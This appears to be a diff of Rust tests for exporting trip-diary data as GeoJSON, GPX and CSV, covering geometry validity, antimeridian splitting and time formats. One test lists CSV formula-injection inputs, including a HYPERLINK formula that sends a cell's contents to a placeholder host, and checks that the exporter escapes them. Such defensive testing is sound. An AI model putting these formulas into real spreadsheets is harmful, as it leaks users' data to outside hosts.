@@ -1,5 +1,7 @@
 //! Each form, on an invented day.
 
+#[path = "support/days.rs"]
+mod days;
 mod support;
 
 use cells_sdk::Area;
@@ -124,17 +126,32 @@ fn check_feature(feature: &Value) {
     assert_eq!(feature["type"], "Feature");
     assert!(feature["id"].is_string() && feature["properties"].is_object(), "{feature}");
     let coordinates = &feature["geometry"]["coordinates"];
-    let is_position =
-        |value: &Value| value.as_array().is_some_and(|of| of.len() == 2 && of.iter().all(Value::is_f64));
     match feature["geometry"]["type"].as_str() {
         None => assert!(feature["geometry"].is_null(), "{feature}"),
-        Some("Point") => assert!(is_position(coordinates), "{feature}"),
-        Some("LineString") => {
-            let line = coordinates.as_array().expect("a list");
-            assert!(line.len() >= 2 && line.iter().all(is_position), "{feature}");
+        Some("Point") => drop(position(coordinates)),
+        Some("LineString") => check_line(coordinates),
+        Some("MultiLineString") => {
+            let lines = coordinates.as_array().expect("a list");
+            assert!(lines.len() >= 2, "{feature}");
+            lines.iter().for_each(check_line);
         }
         Some(other) => panic!("{other}"),
     }
+}
+
+/// A position on the globe.
+fn position(value: &Value) -> [f64; 2] {
+    let numbers: Vec<f64> = value.as_array().expect("a list").iter().filter_map(Value::as_f64).collect();
+    let [longitude, latitude] = numbers[..] else { panic!("{value}") };
+    assert!(longitude.abs() <= 180.0 && latitude.abs() <= 90.0, "{value}");
+    [longitude, latitude]
+}
+
+/// Refuses a line without length, and one round the world.
+fn check_line(line: &Value) {
+    let line: Vec<[f64; 2]> = line.as_array().expect("a list").iter().map(position).collect();
+    assert!(line.iter().any(|other| *other != line[0]), "{line:?}");
+    assert!(line.windows(2).all(|pair| (pair[0][0] - pair[1][0]).abs() <= 180.0), "{line:?}");
 }
 
 #[test]
@@ -228,10 +245,20 @@ fn gpx_has_a_track_for_each_trip_and_a_segment_for_each_section() {
     };
     assert_eq!(of("gpx/trk/name")[0], "2023-11-14T23:15:00+01:00 to 2023-11-14T23:25:00+01:00");
     assert_eq!(of("gpx/trk/desc")[0], "TRAM 1.25 km, WALKING 0.25 km");
-    assert_eq!(of("gpx/trk/trkseg/trkpt/time")[..2], ["2023-11-14T22:15:00Z", "2023-11-14T22:18:20Z"]);
+    assert_eq!(
+        of("gpx/trk/trkseg/trkpt/time")[..2],
+        ["2023-11-14T22:15:00.000Z", "2023-11-14T22:18:20.000Z"]
+    );
     assert_eq!(of("gpx/trk/trkseg/trkpt/ele"), ["400.5", "402", "400.5", "402"]);
-    assert_eq!(text.matches("<trkseg>").count(), 4);
+    // The walk has one point, which ends the segment of the ride.
+    assert_eq!(text.matches("<trkseg>").count(), 2);
     assert!(text.contains(r#"version="1.1" creator="Cellar" xmlns="http://www.topografix.com/GPX/1/1""#));
+    // What was inferred, unless the owner has said it.
+    assert_eq!(of("gpx/trk/type"), ["TRAM", "tram, 2 stops"]);
+    assert_eq!(of("gpx/trk/desc")[1], "TRAM 1.25 km, WALKING 0.25 km; mode confirm: tram, 2 stops");
+    assert_eq!(of("gpx/trk/extensions/cellar:main_mode"), ["TRAM", "TRAM"]);
+    assert_eq!(of("gpx/trk/extensions/cellar:mode_confirm"), ["tram, 2 stops"]);
+    assert_eq!(of("gpx/trk/trkseg/extensions/cellar:mode"), ["TRAM", "TRAM"]);
 }
 
 #[test]
@@ -247,13 +274,125 @@ fn csv_has_a_line_for_each_trip_with_its_modes_and_labels() {
     let of = |name: &str| {
         rows[0].get(heading.iter().position(|column| column == name).expect("a column")).expect("a field")
     };
-    assert_eq!(of("start_time"), "2023-11-14T23:15:00+01:00");
+    assert_eq!(of("start_time"), "2023-11-14T22:15:00.000000Z");
+    assert_eq!((of("start_local_time"), of("start_time_zone")), ("2023-11-14T23:15:00.000000", ""));
     assert_eq!((of("start_latitude"), of("start_longitude")), ("47.01", "8.01"));
     assert_eq!((of("end_latitude"), of("end_longitude")), ("47.11", "8.11"));
     assert_eq!((of("distance_m"), of("duration_s")), ("1500.5", "600"));
     assert_eq!((of("main_mode"), of("modes_m")), ("TRAM", "TRAM 1250; WALKING 250"));
     assert_eq!((of("mode_confirm"), of("purpose_confirm"), of("trip_user_input")), (label, "", "2 people"));
     assert_eq!(of("trip"), hex(1_000));
+}
+
+#[test]
+fn csv_has_no_cell_of_text_that_a_spreadsheet_would_take_for_a_formula() {
+    let cells = [
+        ("=HYPERLINK(\"http://x.example/\"&A1)", "'=HYPERLINK(\"http://x.example/\"&A1)"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t1", "'\t1"),
+        ("\r1", "'\r1"),
+        ("  =1", "'  =1"),
+        ("＝1", "'＝1"),
+        ("a=1", "a=1"),
+        ("nul\u{0}", "nul"),
+    ];
+    for (label, want) in cells {
+        let mut day = Day::default().trip(1_000, 100.0, json!({"purpose_confirm": label}));
+        let summary = json!({"distance": {label: 5.0}});
+        let mut trip = day.memory.of_key("analysis/confirmed_trip")[0].data();
+        trip["inferred_section_summary"] = summary;
+        trip["start_local_dt"] = json!({"timezone": label});
+        trip["start_loc"] = point(-8.5, -47.0);
+        trip["start_place"] = Value::Null;
+        day = Day::default().entry(1, "analysis/confirmed_trip", trip);
+        let text = day.all(Format::Csv);
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let heading = reader.headers().expect("there").clone();
+        let row = reader.records().next().expect("a trip").expect("sound");
+        let of = |name: &str| row.get(heading.iter().position(|column| column == name).expect("a column"));
+        assert_eq!((of("purpose_confirm"), of("main_mode")), (Some(want), Some(want)));
+        assert_eq!((of("start_time_zone"), of("modes_m")), (Some(want), Some(&*format!("{want} 5"))));
+        assert_eq!(
+            (of("start_longitude"), of("start_latitude")),
+            (Some("-8.5"), Some("-47")),
+            "numbers stay"
+        );
+    }
+}
+
+#[test]
+fn what_has_no_length_is_a_point() {
+    let at = point(8.05, 47.1);
+    let stop = json!({"trip_id": id(1_001), "enter_ts": DAY + 520.0, "exit_ts": DAY + 530.0, "enter_loc": at, "exit_loc": at});
+    let mut day = Day::default().trip(1_000, 100.0, json!({})).entry(7, "analysis/cleaned_stop", stop);
+    for (number, ts) in [(8, 650.0), (9, 690.0)] {
+        day = day.entry(
+            number,
+            "analysis/recreated_location",
+            json!({"ts": DAY + ts, "loc": point(8.1, 47.1)}),
+        );
+    }
+    let shown = day.json(Format::Geojson);
+    let features = shown["features"].as_array().expect("a list");
+    features.iter().for_each(check_feature);
+    assert_eq!((&features[4]["properties"]["feature_type"], &features[4]["geometry"]), (&json!("stop"), &at));
+    // Three points at one place: a walk that stands still.
+    let walk = &features[6];
+    assert_eq!((&walk["properties"]["mode"], &walk["geometry"]), (&json!("WALKING"), &point(8.1, 47.1)));
+    assert_eq!(walk["properties"]["times"].as_array().map(Vec::len), Some(3));
+    // The reference's own form keeps its lines.
+    assert_eq!(day.json(Format::Timeline)[0]["features"][3]["geometry"]["type"], "LineString");
+}
+
+#[test]
+fn a_line_over_the_180th_meridian_is_cut_there_and_has_a_time_for_each_position() {
+    let mut day = Day::default();
+    for entry in Day::default().trip(1_000, 100.0, json!({})).memory.entries(Area::Timeseries) {
+        // The day lies between 8 and 8.11 degrees; the cut at 8.05.
+        let mut data = entry.data();
+        for name in ["loc", "start_loc", "end_loc", "enter_loc", "exit_loc", "location"] {
+            if let Some(longitude) = data.get(name).and_then(|loc| loc["coordinates"][0].as_f64()) {
+                data[name]["coordinates"][0] = json!(cells_geometry::wrapped(longitude + 171.95));
+            }
+        }
+        let number = u32::from_str_radix(&entry.id.to_string(), 16).expect("small");
+        day = day.entry(number, &entry.key, data);
+    }
+    for format in [Format::Geojson, Format::Timeline] {
+        let shown = day.json(format);
+        let ride = match format {
+            Format::Geojson => &shown["features"][4],
+            _ => &shown[0]["features"][3]["features"][0],
+        };
+        check_feature(ride);
+        assert_eq!(ride["geometry"]["type"], "MultiLineString");
+        let lines = ride["geometry"]["coordinates"].as_array().expect("a list");
+        assert_eq!(lines.iter().map(|line| line.as_array().map_or(0, Vec::len)).collect::<Vec<_>>(), [3, 2]);
+        assert_eq!((&lines[0][2], &lines[1][0]), (&json!([180.0, 47.1]), &json!([-180.0, 47.1])));
+        let times: Vec<f64> = serde_json::from_value(ride["properties"]["times"].clone()).expect("numbers");
+        let start = DAY + 100.0;
+        let want = [0.0, 200.0, 300.0, 300.0, 400.0].map(|seconds| start + seconds);
+        assert!(times.iter().zip(want).all(|(time, want)| (time - want).abs() < 1e-3), "{times:?}");
+        assert_eq!(times.len(), want.len());
+    }
+    let text = day.all(Format::Gpx);
+    assert_eq!((text.matches("<trkseg>").count(), text.matches("lon=\"180").count()), (2, 0), "{text}");
+    assert!(text.contains("lon=\"179.9999999\"") && text.contains("lon=\"-180\""), "{text}");
+}
+
+#[test]
+fn a_trip_without_points_is_drawn_from_its_start_to_its_end() {
+    let mut day = Day::default();
+    for entry in Day::default().trip(1_000, 100.0, json!({})).memory.entries(Area::Timeseries) {
+        if entry.key == "analysis/confirmed_trip" {
+            day = day.entry(1_000, &entry.key, entry.data());
+        }
+    }
+    let text = day.all(Format::Gpx);
+    assert_eq!((text.matches("<trkseg>").count(), text.matches("<trkpt").count()), (1, 2), "{text}");
+    assert!(text.contains(r#"<trkpt lat="47" lon="8">"#) && text.contains(r#"<trkpt lat="47.1" lon="8.1">"#));
 }
 
 #[test]
@@ -299,6 +438,32 @@ fn odd() -> impl Strategy<Value = Value> {
 }
 
 proptest! {
+    #[test]
+    fn every_diary_has_valid_geometries_and_one_form_of_time(trips in days::trips()) {
+        let day = Day { memory: days::memory(&trips), ..Day::default() };
+        let shown = day.json(Format::Geojson);
+        shown["features"].as_array().expect("a list").iter().for_each(check_feature);
+        let table = day.all(Format::Csv);
+        let mut reader = csv::Reader::from_reader(table.as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().expect("sound");
+        prop_assert_eq!(rows.len(), trips.len());
+        for row in &rows {
+            for (column, form) in [(0, "dddd-dd-ddTdd:dd:dd.ddddddZ"), (2, "dddd-dd-ddTdd:dd:dd.dddddd")] {
+                for cell in row.iter().skip(column).take(2) {
+                    let digits = |letter: char| if letter.is_ascii_digit() { 'd' } else { letter };
+                    prop_assert_eq!(cell.chars().map(digits).collect::<String>(), form);
+                }
+            }
+        }
+        let text = day.all(Format::Gpx);
+        prop_assert_eq!(text.matches("<trk>").count(), trips.len());
+        prop_assert!(text.matches("<trkseg>").count() >= trips.len());
+        for segment in text.split("<trkseg>").skip(1) {
+            let segment = segment.split("</trkseg>").next().expect("its end");
+            prop_assert!(segment.matches("<trkpt").count() >= 2, "{}", segment);
+        }
+    }
+
     #[test]
     fn no_entry_makes_an_export_panic_and_what_is_written_can_be_read(
         members in prop::collection::vec((0..22_usize, 0..5_usize, odd()), 0..12)
